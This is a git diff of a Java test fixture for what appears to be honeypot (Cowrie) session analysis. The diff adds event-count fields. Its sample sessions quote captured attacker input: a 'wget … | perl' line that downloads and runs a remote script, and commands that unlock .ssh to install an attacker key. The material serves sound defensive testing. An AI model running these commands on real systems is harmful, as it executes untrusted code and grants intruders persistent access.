@@ -24,6 +24,7 @@ import java.time.Duration;
 import java.time.Instant;
 import java.util.ArrayList;
 import java.util.List;
+import java.util.Map;
 import java.util.Set;
 import java.util.stream.Stream;
 import org.jspecify.annotations.Nullable;
@@ -119,6 +120,7 @@ final class Diary {
                 .durationDerived(true)
                 .incomplete(Set.of(Incomplete.NO_CLOSE))
                 .logins(List.of(login("2023-05-22T16:48:41.724475Z", "qwerty123456")))
+                .eventCounts(Map.of("cowrie.command.input", 1L))
                 .commands(List.of(command("wget -qO - 103.52.134.51/csx/perlNIK|perl")))
                 .downloads(List.of(Download.builder(FileOrigin.URL)
                         .url(url)
@@ -135,6 +137,7 @@ final class Diary {
 
     private static SessionBuilder keyInstaller(String id, String address, String newPassword) {
         return session(id, address, SessionEnd.CLOSED)
+                .eventCounts(Map.of("cowrie.command.failed", 1L, "cowrie.command.input", 19L))
                 .commands(Stream.of(
                                 "cd ~; chattr -ia .ssh; lockr -ia .ssh",
                                 ADD_KEY,
